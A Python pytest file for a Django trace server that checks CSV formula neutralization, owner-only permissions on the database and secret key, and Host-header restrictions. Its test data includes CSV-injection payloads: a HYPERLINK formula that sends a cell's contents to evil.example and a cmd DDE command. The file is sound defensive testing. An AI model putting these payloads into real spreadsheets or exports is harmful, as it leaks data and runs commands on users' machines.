"""What a local install exposes: CSV cells spreadsheets would execute, the files that hold the
traces and the secret key, and the host names the server answers to."""

import csv
import io
import json
import os
import socket
import stat
import subprocess
import sys

import pytest
from django.core.management import call_command

from tests import helpers as h
from tests import servers

FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx"]


@pytest.fixture
def hostile_store(client, db):
    for n, name in enumerate(FORMULAS, start=1):
        h.post(client, h.body(h.span(trace=n, span=n, name=name, attributes={"gen_ai.request.model": name,
                                                                           "gen_ai.operation.name": "chat"})))
    return client


def test_api_csv_export_neutralizes_formula_cells(hostile_store):
    response = hostile_store.get("/api/v1/traces/export?format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert sorted(row["root_span_name"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert sorted(row["models"] for row in rows) == sorted("'" + name for name in FORMULAS)
    assert all(not value.startswith(("=", "+", "-", "@", "\t")) for row in rows for value in row.values())
    assert {row["span_count"] for row in rows} == {"1"}  # numbers stay numbers


def test_command_csv_export_neutralizes_formula_cells(hostile_store, tmp_path):
    target = tmp_path / "traces.csv"
    call_command("traces", "export", "--query", "", "--format", "csv", "-o", str(target))
    rows = list(csv.reader(target.open(newline="")))

    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULAS[0] in cells
    assert not any(cell.startswith(("=", "+", "@", "\t")) for cell in cells)


def settings_of(env, name):
    """A value from msgtrace's settings, imported in a fresh process with `env`."""
    code = f"import django, json; django.setup(); from django.conf import settings; print(json.dumps(settings.{name}))"
    full = {k: v for k, v in os.environ.items() if k not in ("SECRET_KEY", "DATABASE_URL", "MSGTRACE_ALLOWED_HOSTS",
                                                            "MSGTRACE_HOST")}
    full.update(DJANGO_SETTINGS_MODULE="msgtrace_server.settings", **env)
    return subprocess.run([sys.executable, "-c", code], cwd=servers.ROOT, env=full, capture_output=True, text=True)


def test_the_sqlite_file_and_the_secret_key_are_readable_by_their_owner_only(tmp_path):
    database = tmp_path / "data" / "msgtrace.sqlite3"

    result = settings_of({"MSGTRACE_DB_PATH": str(database)}, "SECRET_KEY")

    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(database.stat().st_mode) == 0o600
    key_file = database.parent / "secret.key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    assert json.loads(result.stdout) == key_file.read_text()
    # Every later process reads the same key.
    assert settings_of({"MSGTRACE_DB_PATH": str(database)}, "SECRET_KEY").stdout == result.stdout


def test_start_fails_clearly_when_the_secret_key_cannot_be_written(tmp_path):
    database = tmp_path / "msgtrace.sqlite3"
    (tmp_path / "secret.key").mkdir()  # a directory where the key should go: unreadable as a file, unwritable

    result = subprocess.run(
        [sys.executable, "manage.py", "check"], cwd=servers.ROOT, capture_output=True, text=True,
        env={**{k: v for k, v in os.environ.items() if k != "SECRET_KEY"}, "MSGTRACE_DB_PATH": str(database)},
    )

    assert result.returncode != 0
    assert f"msgtrace cannot read {tmp_path / 'secret.key'}" in result.stderr
    assert "Set SECRET_KEY" in result.stderr


def test_a_local_install_answers_only_to_loopback_names(tmp_path):
    result = settings_of({"MSGTRACE_DB_PATH": str(tmp_path / "db.sqlite3")}, "ALLOWED_HOSTS")

    assert result.returncode == 0, result.stderr
    assert set(json.loads(result.stdout)) == {".localhost", "localhost", "127.0.0.1", "[::1]"}


def test_allowed_hosts_follow_the_listening_address_and_the_setting(tmp_path):
    db = {"MSGTRACE_DB_PATH": str(tmp_path / "db.sqlite3")}

    specific = json.loads(settings_of({**db, "MSGTRACE_HOST": "10.1.2.3"}, "ALLOWED_HOSTS").stdout)
    everywhere = json.loads(settings_of({**db, "MSGTRACE_HOST": "0.0.0.0"}, "ALLOWED_HOSTS").stdout)
    configured = json.loads(
        settings_of({**db, "MSGTRACE_ALLOWED_HOSTS": "traces.example.com, msgtrace"}, "ALLOWED_HOSTS").stdout
    )

    assert "10.1.2.3" in specific and "*" not in specific
    assert "*" not in everywhere and socket.gethostname() in everywhere  # the machine's own names join loopback
    assert configured == ["traces.example.com", "msgtrace"]


def test_a_dns_rebinding_host_header_is_refused(server):
    import urllib.error
    import urllib.request

    request = urllib.request.Request(server.url + "/api/v1/traces", headers={"Host": "attacker.example:4321"})
    with pytest.raises(urllib.error.HTTPError) as refused:
        urllib.request.urlopen(request, timeout=10)
    assert refused.value.code == 400
    with urllib.request.urlopen(server.url + "/api/v1/traces", timeout=10) as response:
        assert response.status == 200
